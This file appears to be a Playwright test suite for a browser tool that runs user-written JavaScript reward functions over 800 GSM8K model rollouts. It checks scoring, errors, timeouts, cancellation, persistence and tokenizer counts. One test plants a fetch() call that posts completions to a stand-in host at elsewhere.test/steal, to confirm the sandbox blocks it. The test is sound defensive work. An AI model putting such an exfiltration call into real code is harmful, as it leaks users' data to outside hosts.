import { readFileSync } from 'node:fs';
import { expect, test } from '@playwright/test';
import { expectSaved, openStudio, runAndWait, typeReward } from './helpers';

const demo = readFileSync('public/demo/gsm8k-rollouts.jsonl', 'utf8')
  .trim()
  .split('\n')
  .map((l) => JSON.parse(l) as { completion: string });

test('type a reward in Monaco, press Run: the histogram and the scores change', async ({ page }) => {
  await openStudio(page);
  await expect(page.getByTestId('run-summary')).toContainText('mean 0.3688');
  await typeReward(page, 'export default function reward(t) {\n  return t.completion.length > 250 ? 1 : 0.5;\n}\n');
  // Expected mean worked out from the data file itself.
  const long = demo.filter((r) => r.completion.length > 250).length;
  const mean = (long * 1 + (demo.length - long) * 0.5) / demo.length;
  await runAndWait(page, `mean ${mean.toFixed(4)} · 800 scored`);
  const chart = page.getByRole('figure', { name: 'Reward histogram' });
  // Bins are chosen over this run and the previous one (drawn behind): values 0, 0.5 and 1.
  await expect(chart).toHaveAttribute('data-bins', '3');
  await expect(chart).toContainText('0.5');
  // The history keeps both runs.
  await expect(page.getByRole('combobox', { name: 'Run history' }).locator('option')).toHaveCount(2);
});

test('Ctrl+Enter runs; a syntax error is reported with its line and nothing is scored', async ({ page }) => {
  await openStudio(page);
  await typeReward(page, 'export default function reward(t) {\n  return t.completion.length +;\n}\n');
  await page.locator('.monaco-editor').first().click();
  await page.keyboard.press('ControlOrMeta+Enter');
  await expect(page.getByRole('alert').filter({ hasText: 'does not compile' })).toContainText('line 2');
  await typeReward(page, 'export default function reward(t) {\n  return 2;\n}\n');
  await page.keyboard.press('ControlOrMeta+Enter');
  await expect(page.getByTestId('run-summary')).toContainText('mean 2.0000 · 800 scored');
});

test('a reward that throws on some rows: those rows are errors with the message and line; the rest are scored', async ({ page }) => {
  await openStudio(page);
  await typeReward(page, "export default function reward(t) {\n  if (t.index % 100 === 0) throw new Error('boom ' + t.index);\n  return 1;\n}\n");
  await runAndWait(page, '792 scored · 8 errors');
  await page.getByRole('checkbox', { name: 'Errors only' }).check();
  await expect(page.getByTestId('shown-count')).toHaveText('8 shown');
  await page.locator('.rt-data[data-row="300"]').click();
  const detail = page.getByRole('complementary', { name: 'Rollout detail' });
  await expect(detail.getByTestId('detail-reward')).toHaveText('error');
  await expect(detail.getByRole('note')).toHaveText('Error: boom 300 (line 2)');
});

test('a reward that never returns on some rows: they time out, the page stays responsive, the rest are scored', async ({ page }) => {
  await openStudio(page);
  await page.getByRole('spinbutton', { name: 'Time limit per row (ms)' }).fill('600');
  await typeReward(page, 'export default function reward(t) {\n  if (t.index % 200 === 7) { while (true) {} }\n  return 1;\n}\n');
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(page.getByRole('button', { name: 'Cancel', exact: true })).toBeVisible();
  // While rows hang in the workers, the page answers: sorting the table works.
  await page.getByRole('button', { name: 'Sort by length' }).click();
  await expect(page.getByRole('columnheader', { name: /length/i })).toHaveAttribute('aria-sort', 'descending');
  await expect(page.getByTestId('run-summary')).toContainText('796 scored · 4 timed out', { timeout: 30_000 });
  await page.getByRole('checkbox', { name: 'Errors only' }).check();
  await expect(page.getByTestId('shown-count')).toHaveText('4 shown');
  await page.locator('.rt-data[data-row="207"]').click();
  await expect(page.getByRole('complementary', { name: 'Rollout detail' }).getByTestId('detail-reward')).toHaveText('timed out');
});

test('Cancel stops a long run', async ({ page }) => {
  await openStudio(page);
  await typeReward(page, 'export default function reward(t) {\n  const end = Date.now() + 30;\n  while (Date.now() < end) {}\n  return 1;\n}\n');
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(page.getByRole('progressbar', { name: 'Run progress' })).toBeVisible();
  // A run that lasts marks the charts out of date (after a quarter of a second, so quick runs do not flash them).
  const panel = page.getByRole('region', { name: 'Diagnostics' });
  await expect(panel.getByText('updating…')).toBeVisible();
  await expect(panel.getByRole('figure', { name: 'Reward histogram' })).toHaveClass(/stale/);
  await page.getByRole('button', { name: 'Cancel', exact: true }).click();
  await expect(page.getByRole('button', { name: 'Cancel', exact: true })).toBeHidden();
  await expect(panel.getByText('updating…')).toBeHidden();
  await expect(panel.getByRole('figure', { name: 'Reward histogram' })).not.toHaveClass(/stale/);
  await expect(page.getByTestId('run-summary')).toContainText('cancelled');
  const text = await page.getByTestId('run-summary').textContent();
  const scored = Number(/([\d,]+) scored/.exec(text!)![1].replace(/,/g, ''));
  expect(scored).toBeLessThan(800);
});

test('the code survives a reload', async ({ page }) => {
  await openStudio(page);
  await typeReward(page, 'export default function reward(t) {\n  return t.index % 3; // kept across reloads\n}\n');
  await expectSaved(page);
  await page.reload();
  await expect(page.locator('.monaco-editor .view-lines')).toContainText('kept across reloads');
});

test('reward code cannot send data to another origin: that row fails and no request leaves the page', async ({ page }) => {
  let reached = 0;
  await page.route('http://elsewhere.test/**', (route) => {
    reached++;
    return route.fulfill({ status: 200, body: 'ok' });
  });
  await openStudio(page);
  await typeReward(
    page,
    "export default function reward(t) {\n  if (t.index === 5) {\n    fetch('http://elsewhere.test/steal', { method: 'POST', body: t.completion });\n  }\n  return 1;\n}\n",
  );
  await runAndWait(page, '799 scored · 1 errors');
  await page.locator('.rt-data[data-row="5"]').click();
  await expect(page.getByRole('complementary', { name: 'Rollout detail' }).getByRole('note')).toContainText('network access is not available in reward code');
  expect(reached).toBe(0);
});

test('ctx.tokenCount counts with the tokenizer picked in the Tokenizer menu', async ({ page }) => {
  await openStudio(page);
  await typeReward(page, 'export default function reward(t, ctx) {\n  return ctx.tokenCount(t.completion);\n}\n');
  // Mean token counts of the 800 demo completions, from Hugging Face's Rust tokenizers on the same tokenizer.json
  // files (add_special_tokens=False): GPT-2 98.4463, Qwen3 127.6737, Llama-3 102.8975.
  await expect(page.getByRole('combobox', { name: 'Tokenizer' })).toHaveValue('gpt2');
  await runAndWait(page, 'mean 98.4463 · 800 scored');
  await page.getByRole('combobox', { name: 'Tokenizer' }).selectOption({ label: 'Qwen3' });
  await runAndWait(page, 'mean 127.6737 · 800 scored');
  await page.getByRole('combobox', { name: 'Tokenizer' }).selectOption({ label: 'Llama-3' });
  await runAndWait(page, 'mean 102.8975 · 800 scored');
  // The choice survives a reload.
  await expectSaved(page);
  await page.reload();
  await expect(page.getByRole('combobox', { name: 'Tokenizer' })).toHaveValue('llama3');
});
